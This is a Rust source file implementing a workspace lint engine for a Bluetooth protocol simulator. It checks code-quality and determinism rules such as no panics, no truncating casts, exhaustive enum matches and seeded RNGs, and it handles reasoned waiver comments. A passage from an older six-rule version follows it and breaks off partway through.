//! | R1   | protocol crates        | `panic!`/`unwrap`/`expect`/`unreachable!` and unchecked indexing |
//! | R2   | protocol crates        | truncating `as` casts to narrow or platform-width integer types |
//! | R3   | protocol crates        | raw arithmetic on extracted time tick counts                |
//! | R4   | whole workspace        | `_` wildcard arms in matches over PDU/LL-control/telemetry enums |
//! | R5   | arena consumers        | `Rc<RefCell<…>>` shared-node graphs (use the `World` arena) |
//! | R6   | frame-facing           | `Vec<u8>` in `pub` struct fields (use the inline `Pdu`)     |
//! | R7   | order-sensitive crates | `HashMap`/`HashSet` (hash-order iteration corrupts replayability) |
//! | R8   | all but `bench::wallclock` | `std::time::{Instant, SystemTime}` and their `::now()` reads |
//! | R9   | whole workspace        | RNG construction without an explicit seed (`from_entropy`, `thread_rng`, `rand::random`, `OsRng`) |
//!
//! R7–R9 are the **determinism rules**: fixed seeds must replay every
//! experiment byte-for-byte, so simulation-order-sensitive code may not
//! iterate hash-ordered collections, read the host clock, or construct RNGs
//! the seed does not control. Wall-clock throughput/RSS measurement lives in
//! the single audited `bench::wallclock` quarantine module.
//!
//! Test-only code (`#[cfg(test)]`) is exempt from every rule. A violation on
//! line *N* can be waived with `// xtask-allow: R<n> — reason` on line *N*
//! or *N − 1*; waivers are for audited exceptions (e.g. lossless casts in
//! `const fn` contexts where `From` is unavailable, or a membership-only
//! `HashSet` behind a deterministic hasher whose iteration order is never
//! observed), never for silencing real hot-path panics. The reason suffix is
//! mandatory: `cargo xtask lint --waivers` audits every waiver and fails on
//! bare ones.

use std::collections::BTreeSet;

use crate::lexer::{matching, strip_cfg_test, tokenize, Token};

/// Which rules run on a file.
#[derive(Debug, Clone, Copy)]
pub struct RuleSet {
    pub r1: bool,
    pub r2: bool,
    pub r3: bool,
    pub r4: bool,
    pub r5: bool,
    pub r6: bool,
    pub r7: bool,
    pub r8: bool,
    pub r9: bool,
}

impl RuleSet {
    /// No rules at all; the base the named sets build on.
    pub const fn none() -> Self {
        RuleSet {
            r1: false,
            r2: false,
            r3: false,
            r4: false,
            r5: false,
            r6: false,
            r7: false,
            r8: false,
            r9: false,
        }
    }

    /// The hot-path rules: the protocol crates. The workspace-wide
    /// determinism rules R8/R9 ride along.
    pub fn protocol() -> Self {
        RuleSet {
            r1: true,
            r2: true,
            r3: true,
            r4: true,
            r8: true,
            r9: true,
            ..Self::none()
        }
    }

    /// Exhaustive-match plus the workspace-wide determinism rules: attack
    /// tooling, device models, benches.
    pub fn general() -> Self {
        RuleSet {
            r4: true,
            r8: true,
            r9: true,
            ..Self::none()
        }
    }

    /// Adds the no-`Rc<RefCell<…>>` rule: code that builds worlds must use
    /// the arena (`World::add_node` + `NodeId`), not a shared-pointer graph.
    pub fn with_r5(mut self) -> Self {
        self.r5 = true;
        self
    }

    /// Adds the no-`Vec<u8>`-field rule: frame-facing structs must carry
    /// their bytes in the inline [`Pdu`] buffer, not on the heap.
    pub fn with_r6(mut self) -> Self {
        self.r6 = true;
        self
    }

    /// Adds the no-hash-collections rule: simulation-order-sensitive crates
    /// may not iterate `HashMap`/`HashSet` (hash order is not stable across
    /// runs, platforms, or std versions).
    pub fn with_r7(mut self) -> Self {
        self.r7 = true;
        self
    }
}

/// One lint finding.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Violation {
    /// Rule number, 1–9.
    pub rule: u8,
    /// 1-based source line.
    pub line: u32,
    pub msg: String,
}

/// Lints one file's source, returning unwaived violations sorted by line.
pub fn lint_source(src: &str, rules: RuleSet) -> Vec<Violation> {
    let waivers = collect_waivers(src);
    let tokens = strip_cfg_test(tokenize(src));
    let mut v = Vec::new();
    if rules.r1 {
        r1_panics(&tokens, &mut v);
        r1_indexing(&tokens, &mut v);
    }
    if rules.r2 {
        r2_casts(&tokens, &mut v);
    }
    if rules.r3 {
        r3_time_arith(&tokens, &mut v);
    }
    if rules.r4 {
        r4_wildcards(&tokens, &mut v);
    }
    if rules.r5 {
        r5_rc_refcell(&tokens, &mut v);
    }
    if rules.r6 {
        r6_vec_u8_fields(&tokens, &mut v);
    }
    if rules.r7 {
        r7_hash_collections(&tokens, &mut v);
    }
    if rules.r8 {
        r8_wall_clock(&tokens, &mut v);
    }
    if rules.r9 {
        r9_unseeded_rng(&tokens, &mut v);
    }
    v.retain(|vi| !waivers.contains(&(vi.line, vi.rule)));
    v.sort_by_key(|vi| (vi.line, vi.rule));
    v
}

/// One `// xtask-allow:` waiver comment, as audited by
/// `cargo xtask lint --waivers`.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct WaiverEntry {
    /// 1-based line the waiver comment sits on.
    pub line: u32,
    /// Rules the waiver silences, in source order.
    pub rules: Vec<u8>,
    /// The reason after the `—`/`--` separator, if any. `None` for a bare
    /// waiver (an audit failure) — every waiver must say *why* the rule is
    /// safe to break at this site.
    pub reason: Option<String>,
}

/// Collects every waiver comment in a file for the audit listing, keeping
/// the reason text (unlike [`collect_waivers`], which only needs the
/// silenced coordinates).
pub fn collect_waiver_entries(src: &str) -> Vec<WaiverEntry> {
    let mut out = Vec::new();
    for (idx, line) in src.lines().enumerate() {
        let Some(pos) = line.find("xtask-allow:") else {
            continue;
        };
        let rest = &line[pos + "xtask-allow:".len()..];
        let (list, reason) = split_waiver_reason(rest);
        let mut rules = Vec::new();
        let mut chars = list.chars().peekable();
        while let Some(c) = chars.next() {
            if c == 'R' || c == 'r' {
                if let Some(d) = chars.peek().and_then(|d| d.to_digit(10)) {
                    chars.next();
                    rules.push(d as u8);
                }
            }
        }
        out.push(WaiverEntry {
            line: idx as u32 + 1,
            rules,
            reason,
        });
    }
    out
}

/// Splits waiver text into the rule list and the (trimmed, non-empty)
/// reason after the `—` or `--` separator.
fn split_waiver_reason(rest: &str) -> (&str, Option<String>) {
    for sep in ["—", "--"] {
        if let Some((list, reason)) = rest.split_once(sep) {
            let reason = reason.trim();
            return (list, (!reason.is_empty()).then(|| reason.to_owned()));
        }
    }
    (rest, None)
}

/// Parses `// xtask-allow: R1, R3 — reason` waivers. A waiver on line *N*
/// covers lines *N* and *N + 1*. Only the rule list before the reason
/// separator (`—` or `--`) is parsed, so a reason that *mentions* a rule
/// ("R2 is syntactic here") does not accidentally waive it.
fn collect_waivers(src: &str) -> BTreeSet<(u32, u8)> {
    let mut waivers = BTreeSet::new();
    for entry in collect_waiver_entries(src) {
        for rule in entry.rules {
            waivers.insert((entry.line, rule));
            waivers.insert((entry.line + 1, rule));
        }
    }
    waivers
}

fn is_number(t: &Token) -> bool {
    t.text.chars().next().is_some_and(|c| c.is_ascii_digit())
}

fn is_ident(t: &Token) -> bool {
    t.text
        .chars()
        .next()
        .is_some_and(|c| c.is_alphabetic() || c == '_')
        && !t.text.starts_with('<')
}

// ---------------------------------------------------------------------
// R1: no panic paths in protocol hot code
// ---------------------------------------------------------------------

const PANIC_MACROS: &[&str] = &["panic", "unreachable", "todo", "unimplemented"];

fn r1_panics(tokens: &[Token], out: &mut Vec<Violation>) {
    for (i, t) in tokens.iter().enumerate() {
        if PANIC_MACROS.contains(&t.text.as_str())
            && tokens.get(i + 1).is_some_and(|n| n.text == "!")
        {
            out.push(Violation {
                rule: 1,
                line: t.line,
                msg: format!(
                    "`{}!` in a protocol hot path; recover gracefully and \
                     document with a `ble_invariants` macro",
                    t.text
                ),
            });
        }
        if t.text == "."
            && tokens
                .get(i + 1)
                .is_some_and(|n| n.text == "unwrap" || n.text == "expect")
            && tokens.get(i + 2).is_some_and(|n| n.text == "(")
        {
            let name = &tokens[i + 1];
            out.push(Violation {
                rule: 1,
                line: name.line,
                msg: format!(
                    "`.{}()` in a protocol hot path; use a match/`let else` \
                     with a recovery path",
                    name.text
                ),
            });
        }
    }
}

/// Statement-position keywords after which `[` opens an array literal or
/// pattern rather than an index expression.
const NON_POSTFIX_KEYWORDS: &[&str] = &[
    "let", "mut", "ref", "return", "in", "if", "else", "match", "move", "as", "break", "continue",
    "where", "const", "static", "type", "box", "dyn", "impl", "pub", "use", "yield", "for",
];

fn r1_indexing(tokens: &[Token], out: &mut Vec<Violation>) {
    for (i, t) in tokens.iter().enumerate() {
        if t.text != "[" || i == 0 {
            continue;
        }
        let prev = &tokens[i - 1];
        let postfix = (is_ident(prev) && !NON_POSTFIX_KEYWORDS.contains(&prev.text.as_str()))
            || prev.text == ")"
            || prev.text == "]";
        if !postfix {
            continue;
        }
        let close = matching(tokens, i);
        let idx = &tokens[i + 1..close.min(tokens.len())];
        if idx.is_empty() {
            continue;
        }
        let all_literal = idx
            .iter()
            .all(|t| is_number(t) || t.text == ".." || t.text == "..=");
        let modular = idx.iter().any(|t| t.text == "%");
        if !all_literal && !modular {
            let expr: Vec<&str> = idx.iter().map(|t| t.text.as_str()).collect();
            out.push(Violation {
                rule: 1,
                line: t.line,
                msg: format!(
                    "unchecked index `[{}]`; use `.get()`/`.get_mut()`, a \
                     literal index, or a modulo-reduced index",
                    expr.join(" ")
                ),
            });
        }
    }
}

// ---------------------------------------------------------------------
// R2: no truncating `as` casts
// ---------------------------------------------------------------------

/// Cast targets R2 rejects: the narrow fixed-width integers plus the
/// platform-width pair. `u64 as usize` silently truncates on 32-bit
/// hosts, and `count as usize` buffer pre-allocation is exactly how the
/// old in-memory trial runner capped campaigns at `usize::MAX` trials —
/// use `usize::try_from(..)` and make the fallback explicit.
const NARROW_INTS: &[&str] = &["u8", "u16", "u32", "i8", "i16", "i32", "usize", "isize"];

fn r2_casts(tokens: &[Token], out: &mut Vec<Violation>) {
    for (i, t) in tokens.iter().enumerate() {
        if t.text == "as"
            && tokens
                .get(i + 1)
                .is_some_and(|n| NARROW_INTS.contains(&n.text.as_str()))
        {
            out.push(Violation {
                rule: 2,
                line: t.line,
                msg: format!(
                    "`as {}` can truncate; use `From`/`try_into` or the \
                     `ble_invariants::lsb*` masked helpers",
                    tokens[i + 1].text
                ),
            });
        }
    }
}

// ---------------------------------------------------------------------
// R3: no raw arithmetic on extracted time tick counts
// ---------------------------------------------------------------------

/// Methods that turn a typed `Duration`/`Instant` into a bare integer.
const TIME_EXTRACTORS: &[&str] = &["as_micros", "as_nanos", "as_millis", "as_secs", "as_ticks"];

const ARITH_OPS: &[&str] = &["+", "-", "*", "/"];

fn r3_time_arith(tokens: &[Token], out: &mut Vec<Violation>) {
    for (i, t) in tokens.iter().enumerate() {
        if !TIME_EXTRACTORS.contains(&t.text.as_str()) {
            continue;
        }
        if !(tokens.get(i + 1).is_some_and(|n| n.text == "(")
            && tokens.get(i + 2).is_some_and(|n| n.text == ")"))
        {
            continue;
        }
        // `d.as_micros() + x`
        let after = tokens.get(i + 3);
        let fires_after = after.is_some_and(|n| ARITH_OPS.contains(&n.text.as_str()));
        // `x + d.as_micros()`: walk back over the receiver's postfix chain.
        let mut j = i as isize - 1; // the `.` before the method
        j -= 1;
        while j >= 0 {
            let tok = &tokens[j as usize];
            match tok.text.as_str() {
                ")" | "]" => match open_backward(tokens, j as usize) {
                    Some(open) => j = open as isize - 1,
                    None => break,
                },
                "." | "::" => j -= 1,
                _ if is_ident(tok) || is_number(tok) => j -= 1,
                _ => break,
            }
        }
        let fires_before = j >= 0 && ARITH_OPS.contains(&tokens[j as usize].text.as_str());
        if fires_after || fires_before {
            out.push(Violation {
                rule: 3,
                line: t.line,
                msg: format!(
                    "raw arithmetic on `.{}()`; keep arithmetic in the typed \
                     `Duration`/`Instant` domain or use `checked_*`/`saturating_*`",
                    t.text
                ),
            });
        }
    }
}

/// Finds the opener matching the closer at `close`, scanning backward.
fn open_backward(tokens: &[Token], close: usize) -> Option<usize> {
    let (o, c) = match tokens[close].text.as_str() {
        ")" => ("(", ")"),
        "]" => ("[", "]"),
        _ => return None,
    };
    let mut depth = 0usize;
    for i in (0..=close).rev() {
        if tokens[i].text == c {
            depth += 1;
        } else if tokens[i].text == o {
            depth -= 1;
            if depth == 0 {
                return Some(i);
            }
        }
    }
    None
}

// ---------------------------------------------------------------------
// R4: exhaustive matches on PDU / LL-control enums
// ---------------------------------------------------------------------

/// Enums carrying protocol opcodes or PDU variants: new over-the-air
/// vocabulary must force every match site to make a decision. The typed
/// telemetry event is held to the same bar so adding an event variant
/// surfaces every consumer (sinks, timeline rendering) that must handle it,
/// and the fault taxonomy likewise so a new impairment kind surfaces every
/// site that renders or tallies faults.
const PDU_ENUMS: &[&str] = &[
    "ControlPdu",
    "AdvertisingPdu",
    "Llid",
    "TelemetryEvent",
    "FaultKind",
    "SpanKind",
    "SlotState",
    "QosPolicy",
];

fn r4_wildcards(tokens: &[Token], out: &mut Vec<Violation>) {
    for (i, t) in tokens.iter().enumerate() {
        if t.text != "match" {
            continue;
        }
        // Find the match-body `{`: the first one at group depth 0 (braces
        // inside the scrutinee only occur within parens/brackets, e.g.
        // closures, because Rust bans bare struct literals there).
        let mut depth = 0usize;
        let mut body = None;
        for (j, tj) in tokens.iter().enumerate().skip(i + 1) {
            match tj.text.as_str() {
                "(" | "[" => depth += 1,
                ")" | "]" => depth = depth.saturating_sub(1),
                "{" if depth == 0 => {
                    body = Some(j);
                    break;
                }
                "{" => {
                    // A brace at group depth > 0 belongs to a closure in the
                    // scrutinee; it is closed before its group closes.
                }
                ";" if depth == 0 => break, // not a match expression after all
                _ => {}
            }
            if j > i + 256 {
                break; // degenerate; give up on this `match`
            }
        }
        let Some(body) = body else { continue };
        let end = matching(tokens, body);
        check_match_arms(&tokens[body + 1..end.min(tokens.len())], out);
    }
}

/// Analyzes the top-level arms of one match body (tokens between the match
/// braces). Nested matches are analyzed by their own `match` token in the
/// outer scan.
fn check_match_arms(body: &[Token], out: &mut Vec<Violation>) {
    let mut saw_pdu_enum = false;
    let mut wildcard: Option<u32> = None;
    let mut k = 0usize;
    let mut pattern: Vec<&Token> = Vec::new();
    while k < body.len() {
        let t = &body[k];
        match t.text.as_str() {
            "(" | "[" | "{" => {
                // Groups within a pattern stay opaque.
                let close = matching_rel(body, k);
                for tok in &body[k..close.min(body.len())] {
                    pattern.push(tok);
                }
                k = close + 1;
            }
            "=>" => {
                analyze_pattern(&pattern, &mut saw_pdu_enum, &mut wildcard);
                pattern.clear();
                // Skip the arm body: a braced block, or tokens to the next
                // top-level comma.
                k += 1;
                if body.get(k).is_some_and(|n| n.text == "{") {
                    k = matching_rel(body, k) + 1;
                    if body.get(k).is_some_and(|n| n.text == ",") {
                        k += 1;
                    }
                } else {
                    let mut depth = 0usize;
                    while k < body.len() {
                        match body[k].text.as_str() {
                            "(" | "[" | "{" => depth += 1,
                            ")" | "]" | "}" => depth = depth.saturating_sub(1),
                            "," if depth == 0 => {
                                k += 1;
                                break;
                            }
                            _ => {}
                        }
                        k += 1;
                    }
                }
            }
            _ => {
                pattern.push(t);
                k += 1;
            }
        }
    }
    if saw_pdu_enum {
        if let Some(line) = wildcard {
            out.push(Violation {
                rule: 4,
                line,
                msg: "`_` wildcard arm in a match over a PDU/LL-control enum; \
                      list the remaining variants explicitly so new opcodes \
                      force a decision here"
                    .to_owned(),
            });
        }
    }
}

fn matching_rel(body: &[Token], open: usize) -> usize {
    matching(body, open)
}

fn analyze_pattern(pattern: &[&Token], saw_pdu_enum: &mut bool, wildcard: &mut Option<u32>) {
    for w in pattern.windows(2) {
        if PDU_ENUMS.contains(&w[0].text.as_str()) && w[1].text == "::" {
            *saw_pdu_enum = true;
        }
    }
    if let Some(first) = pattern.first() {
        if first.text == "_" && pattern.len() == 1 && wildcard.is_none() {
            *wildcard = Some(first.line);
        }
    }
}

// ---------------------------------------------------------------------
// R5: no shared-pointer node graphs in arena consumers
// ---------------------------------------------------------------------

/// The pre-arena world wired nodes as `Rc<RefCell<dyn RadioListener>>` and
/// every call site paid for it in `.borrow_mut()` noise and runtime borrow
/// panics. `World` now owns nodes outright (`add_node` → `NodeId`,
/// `node::<T>()` / `node_mut::<T>()` for access), so the shared-pointer
/// pattern is banned from the crates that build worlds.
fn r5_rc_refcell(tokens: &[Token], out: &mut Vec<Violation>) {
    // `std::cell::RefCell` and `RefCell` must both match: skip any
    // `ident ::` path-qualifier pairs before comparing.
    fn is_refcell_at(tokens: &[Token], mut i: usize) -> bool {
        loop {
            match tokens.get(i) {
                Some(t) if t.text == "RefCell" => return true,
                Some(t) if is_ident(t) && tokens.get(i + 1).is_some_and(|n| n.text == "::") => {
                    i += 2;
                }
                _ => return false,
            }
        }
    }
    for (i, t) in tokens.iter().enumerate() {
        if t.text != "Rc" {
            continue;
        }
        // The type: `Rc<RefCell<…>>` (possibly path-qualified).
        let as_type =
            tokens.get(i + 1).is_some_and(|n| n.text == "<") && is_refcell_at(tokens, i + 2);
        // The constructor: `Rc::new(RefCell::new(…))`.
        let as_ctor = tokens.get(i + 1).is_some_and(|n| n.text == "::")
            && tokens.get(i + 2).is_some_and(|n| n.text == "new")
            && tokens.get(i + 3).is_some_and(|n| n.text == "(")
            && is_refcell_at(tokens, i + 4);
        if as_type || as_ctor {
            out.push(Violation {
                rule: 5,
                line: t.line,
                msg: "`Rc<RefCell<…>>` node graph; own the node in the arena \
                      (`World::add_node` → `NodeId`, access via `node::<T>()` \
                      / `node_mut::<T>()` / `with_node_ctx`)"
                    .to_owned(),
            });
        }
    }
}

// ---------------------------------------------------------------------
// R6: no heap-allocated byte buffers in frame-facing struct fields
// ---------------------------------------------------------------------

/// The inline-`Pdu` rework removed every `Vec<u8>` from the structs that
/// cross the radio medium (`RawFrame`, `ReceivedFrame`); a `Vec<u8>` field
/// reintroduced on a `pub` frame-facing struct silently puts a heap
/// allocation (and a clone per receiver) back on every delivery.
///
/// Detects `pub [vis-qualifier] name: Vec<u8>` field declarations. Function
/// parameters and locals never carry `pub`, so the pattern only matches
/// struct fields. Private fields are deliberately out of scope: they cannot
/// leak into the public frame API.
fn r6_vec_u8_fields(tokens: &[Token], out: &mut Vec<Violation>) {
    for (i, t) in tokens.iter().enumerate() {
        if t.text != "pub" {
            continue;
        }
        // Skip a `(crate)` / `(super)` / `(in …)` visibility qualifier.
        let mut j = i + 1;
        if tokens.get(j).is_some_and(|n| n.text == "(") {
            j = matching(tokens, j) + 1;
        }
        // Field name and the `:` separator.
        if !tokens.get(j).is_some_and(is_ident) || tokens.get(j).is_some_and(|n| n.text == "fn") {
            continue;
        }
        let name = j;
        if tokens.get(j + 1).is_none_or(|n| n.text != ":") {
            continue;
        }
        // The type: `Vec<u8>`, possibly path-qualified.
        let mut k = j + 2;
        while tokens.get(k).is_some_and(is_ident)
            && tokens.get(k + 1).is_some_and(|n| n.text == "::")
        {
            k += 2;
        }
        let is_vec_u8 = tokens.get(k).is_some_and(|n| n.text == "Vec")
            && tokens.get(k + 1).is_some_and(|n| n.text == "<")
            && tokens.get(k + 2).is_some_and(|n| n.text == "u8")
            && tokens.get(k + 3).is_some_and(|n| n.text == ">");
        if is_vec_u8 {
            out.push(Violation {
                rule: 6,
                line: t.line,
                msg: format!(
                    "`pub {}: Vec<u8>` field on a frame-facing struct; store \
                     the bytes inline (`ble_phy::Pdu`) so frame delivery \
                     stays allocation-free",
                    tokens[name].text
                ),
            });
        }
    }
}

// ---------------------------------------------------------------------
// R7: no hash-ordered collections in simulation-order-sensitive crates
// ---------------------------------------------------------------------

/// Hash-map iteration order depends on the hasher's per-process random keys
/// (and, even with a fixed hasher, on insertion history and the std
/// implementation), so any simulation state iterated in hash order silently
/// breaks seed-for-seed replayability — the property every experiment
/// artefact comparison rests on. The ban covers type mentions, so
/// constructor forms (`HashMap::new`, `::default`, `collect::<HashMap<…>>`)
/// and `use` imports all trip it.
const HASH_COLLECTIONS: &[&str] = &["HashMap", "HashSet"];

fn r7_hash_collections(tokens: &[Token], out: &mut Vec<Violation>) {
    for t in tokens {
        if HASH_COLLECTIONS.contains(&t.text.as_str()) {
            out.push(Violation {
                rule: 7,
                line: t.line,
                msg: format!(
                    "`{}` iterates in hash order, which is not replayable \
                     across runs; use `BTreeMap`/`BTreeSet`/`Vec`, or waive \
                     with a reason proving iteration order is never observed",
                    t.text
                ),
            });
        }
    }
}

// ---------------------------------------------------------------------
// R8: no host wall-clock reads outside the bench::wallclock quarantine
// ---------------------------------------------------------------------

/// Simulation logic may never branch on host time: a run that behaves
/// differently on a loaded machine is not an experiment. Wall-clock reads
/// for throughput/RSS pricing are legitimate but live in exactly one
/// audited module (`bench::wallclock`), which the lint driver exempts by
/// path. Detected forms: the `std::time::Instant` / `std::time::SystemTime`
/// paths (including `use std::time::{…}` groups) and `Instant::now()` /
/// `SystemTime::now()` calls after an import. `simkit::Instant` — simulated
/// time — has no `now()` and never trips this rule.
fn r8_wall_clock(tokens: &[Token], out: &mut Vec<Violation>) {
    let fire = |out: &mut Vec<Violation>, t: &Token| {
        out.push(Violation {
            rule: 8,
            line: t.line,
            msg: format!(
                "host wall-clock type `{}` outside `bench::wallclock`; \
                 simulation logic must use `simkit` time, and throughput \
                 pricing must go through the quarantine module",
                t.text
            ),
        });
    };
    for (i, t) in tokens.iter().enumerate() {
        // `std :: time ::` followed by the banned type or a `{…}` group.
        if t.text == "std"
            && tokens.get(i + 1).is_some_and(|n| n.text == "::")
            && tokens.get(i + 2).is_some_and(|n| n.text == "time")
            && tokens.get(i + 3).is_some_and(|n| n.text == "::")
        {
            match tokens.get(i + 4) {
                Some(n) if n.text == "Instant" || n.text == "SystemTime" => fire(out, n),
                Some(n) if n.text == "{" => {
                    let close = matching(tokens, i + 4);
                    for tok in &tokens[i + 4..close.min(tokens.len())] {
                        if tok.text == "Instant" || tok.text == "SystemTime" {
                            fire(out, tok);
                        }
                    }
                }
                _ => {}
            }
        }
        // `Instant::now()` / `SystemTime::now()` on an imported name. The
        // path-qualified form is caught above (same line, deduplicated by
        // the `time ::` guard here).
        if (t.text == "Instant" || t.text == "SystemTime")
            && tokens.get(i + 1).is_some_and(|n| n.text == "::")
            && tokens.get(i + 2).is_some_and(|n| n.text == "now")
            && !(i >= 2 && tokens[i - 1].text == "::" && tokens[i - 2].text == "time")
        {
            fire(out, t);
        }
    }
}

// ---------------------------------------------------------------------
// R9: no RNG construction the seed does not control
// ---------------------------------------------------------------------

/// Idents that construct or read entropy-seeded randomness. Any draw from
/// these is invisible to the experiment seed, so two runs with identical
/// seeds diverge — exactly the corruption the determinism oracle exists to
/// catch, banned at the source instead.
const UNSEEDED_RNG: &[&str] = &["from_entropy", "thread_rng", "OsRng"];

fn r9_unseeded_rng(tokens: &[Token], out: &mut Vec<Violation>) {
    for (i, t) in tokens.iter().enumerate() {
        if UNSEEDED_RNG.contains(&t.text.as_str()) {
            out.push(Violation {
                rule: 9,
                line: t.line,
                msg: format!(
                    "`{}` draws entropy the experiment seed does not \
                     control; derive randomness from an explicit seed \
                     (`SimRng::seed_from` / `fork`, `seed_from_u64`)",
                    t.text
                ),
            });
        }
        if t.text == "rand"
            && tokens.get(i + 1).is_some_and(|n| n.text == "::")
            && tokens.get(i + 2).is_some_and(|n| n.text == "random")
        {
            out.push(Violation {
                rule: 9,
                line: t.line,
                msg: "`rand::random` draws from the thread-local entropy RNG; \
                      derive randomness from an explicit seed \
                      (`SimRng::seed_from` / `fork`, `seed_from_u64`)"
                    .to_owned(),
            });
        }
    }
}

// Per-rule positive/negative coverage lives in the fixture corpus under
// `tests/fixtures/` (driven by `tests/corpus.rs`): one annotated snippet per
// rule, including waiver handling and the `#[cfg(test)]` exemption. The
// tests here cover only the engine-level pieces the corpus cannot express —
// output ordering and the waiver-audit parsing API.
#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn violations_sorted_by_line() {
        let src = "fn a(x: u64) -> u8 { x as u8 }\nfn b() { panic!(); }";
        let v = lint_source(src, RuleSet::protocol());
        assert_eq!(
            v.iter().map(|x| (x.line, x.rule)).collect::<Vec<_>>(),
            vec![(1, 2), (2, 1)]
        );
    }

    #[test]
    fn ruleset_composition_flags_stack() {
        let rules = RuleSet::general().with_r5().with_r6().with_r7();
        assert!(rules.r4 && rules.r5 && rules.r6 && rules.r7);
        assert!(rules.r8 && rules.r9, "determinism rules ride with general");
        assert!(!rules.r1, "hot-path rules stay protocol-only");
        let none = RuleSet::none();
        assert!(
            !(none.r1 || none.r4 || none.r7 || none.r8 || none.r9),
            "none() is the empty base"
        );
    }

    #[test]
    fn waiver_entries_parse_rules_and_reasons() {
        let src = "\
fn a() {} // xtask-allow: R2 — masked upstream
// xtask-allow: R7
// xtask-allow: R1, R3 -- ascii dashes work too
";
        let entries = collect_waiver_entries(src);
        assert_eq!(entries.len(), 3);
        assert_eq!(entries[0].line, 1);
        assert_eq!(entries[0].rules, vec![2]);
        assert_eq!(entries[0].reason.as_deref(), Some("masked upstream"));
        assert_eq!(entries[1].line, 2);
        assert_eq!(entries[1].rules, vec![7]);
        assert_eq!(entries[1].reason, None, "bare waiver has no reason");
        assert_eq!(entries[2].rules, vec![1, 3]);
        assert_eq!(entries[2].reason.as_deref(), Some("ascii dashes work too"));
    }

    #[test]
    fn waiver_reason_must_be_nonempty() {
        let src = "// xtask-allow: R2 — \nfn f() {}";
        let entries = collect_waiver_entries(src);
        assert_eq!(entries.len(), 1);
        assert_eq!(
            entries[0].reason, None,
            "a dash with nothing after it is not a reason"
        );
    }
}
