//! The protocol lint rules R1–R6.
//!
//! | rule | scope            | forbids                                                     |
//! |------|------------------|-------------------------------------------------------------|
//! | R1   | protocol crates  | `panic!`/`unwrap`/`expect`/`unreachable!` and unchecked indexing |
//! | R2   | protocol crates  | truncating `as` casts to narrow integer types               |
//! | R3   | protocol crates  | raw arithmetic on extracted time tick counts                |
//! | R4   | whole workspace  | `_` wildcard arms in matches over PDU/LL-control/telemetry enums |
//! | R5   | arena consumers  | `Rc<RefCell<…>>` shared-node graphs (use the `World` arena) |
//! | R6   | frame-facing     | `Vec<u8>` in `pub` struct fields (use the inline `Pdu`)     |
//!
//! Test-only code (`#[cfg(test)]`) is exempt from every rule. A violation on
//! line *N* can be waived with `// xtask-allow: R<n> — reason` on line *N*
//! or *N − 1*; waivers are for audited exceptions (e.g. lossless casts in
//! `const fn` contexts where `From` is unavailable), never for silencing
//! real hot-path panics.

use std::collections::HashSet;

use crate::lexer::{matching, strip_cfg_test, tokenize, Token};

/// Which rules run on a file.
#[derive(Debug, Clone, Copy)]
pub struct RuleSet {
    pub r1: bool,
    pub r2: bool,
    pub r3: bool,
    pub r4: bool,
    pub r5: bool,
    pub r6: bool,
}

impl RuleSet {
    /// The hot-path rules: the protocol crates.
    pub fn protocol() -> Self {
        RuleSet {
            r1: true,
            r2: true,
            r3: true,
            r4: true,
            r5: false,
            r6: false,
        }
    }

    /// Exhaustive-match rule only: attack tooling, device models, benches.
    pub fn general() -> Self {
        RuleSet {
            r1: false,
            r2: false,
            r3: false,
            r4: true,
            r5: false,
            r6: false,
        }
    }

    /// Adds the no-`Rc<RefCell<…>>` rule: code that builds worlds must use
    /// the arena (`World::add_node` + `NodeId`), not a shared-pointer graph.
    pub fn with_r5(mut self) -> Self {
        self.r5 = true;
        self
    }

    /// Adds the no-`Vec<u8>`-field rule: frame-facing structs must carry
    /// their bytes in the inline [`Pdu`] buffer, not on the heap.
    pub fn with_r6(mut self) -> Self {
        self.r6 = true;
        self
    }
}

/// One lint finding.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Violation {
    /// Rule number, 1–5.
    pub rule: u8,
    /// 1-based source line.
    pub line: u32,
    pub msg: String,
}

/// Lints one file's source, returning unwaived violations sorted by line.
pub fn lint_source(src: &str, rules: RuleSet) -> Vec<Violation> {
    let waivers = collect_waivers(src);
    let tokens = strip_cfg_test(tokenize(src));
    let mut v = Vec::new();
    if rules.r1 {
        r1_panics(&tokens, &mut v);
        r1_indexing(&tokens, &mut v);
    }
    if rules.r2 {
        r2_casts(&tokens, &mut v);
    }
    if rules.r3 {
        r3_time_arith(&tokens, &mut v);
    }
    if rules.r4 {
        r4_wildcards(&tokens, &mut v);
    }
    if rules.r5 {
        r5_rc_refcell(&tokens, &mut v);
    }
    if rules.r6 {
        r6_vec_u8_fields(&tokens, &mut v);
    }
    v.retain(|vi| !waivers.contains(&(vi.line, vi.rule)));
    v.sort_by_key(|vi| (vi.line, vi.rule));
    v
}

/// Parses `// xtask-allow: R1, R3 — reason` waivers. A waiver on line *N*
/// covers lines *N* and *N + 1*. Only the rule list before the reason
/// separator (`—` or `--`) is parsed, so a reason that *mentions* a rule
/// ("R2 is syntactic here") does not accidentally waive it.
fn collect_waivers(src: &str) -> HashSet<(u32, u8)> {
    let mut waivers = HashSet::new();
    for (idx, line) in src.lines().enumerate() {
        let Some(pos) = line.find("xtask-allow:") else {
            continue;
        };
        let mut rest = &line[pos + "xtask-allow:".len()..];
        if let Some((list, _reason)) = rest.split_once('—') {
            rest = list;
        }
        if let Some((list, _reason)) = rest.split_once("--") {
            rest = list;
        }
        let mut chars = rest.chars().peekable();
        while let Some(c) = chars.next() {
            if c == 'R' || c == 'r' {
                if let Some(d) = chars.peek().and_then(|d| d.to_digit(10)) {
                    chars.next();
                    let rule = d as u8;
                    let n = idx as u32 + 1;
                    waivers.insert((n, rule));
                    waivers.insert((n + 1, rule));
                }
            }
        }
    }
    waivers
}

fn is_number(t: &Token) -> bool {
    t.text.chars().next().is_some_and(|c| c.is_ascii_digit())
}

fn is_ident(t: &Token) -> bool {
    t.text
        .chars()
        .next()
        .is_some_and(|c| c.is_alphabetic() || c == '_')
        && !t.text.starts_with('<')
}

// ---------------------------------------------------------------------
// R1: no panic paths in protocol hot code
// ---------------------------------------------------------------------

const PANIC_MACROS: &[&str] = &["panic", "unreachable", "todo", "unimplemented"];

fn r1_panics(tokens: &[Token], out: &mut Vec<Violation>) {
    for (i, t) in tokens.iter().enumerate() {
        if PANIC_MACROS.contains(&t.text.as_str())
            && tokens.get(i + 1).is_some_and(|n| n.text == "!")
        {
            out.push(Violation {
                rule: 1,
                line: t.line,
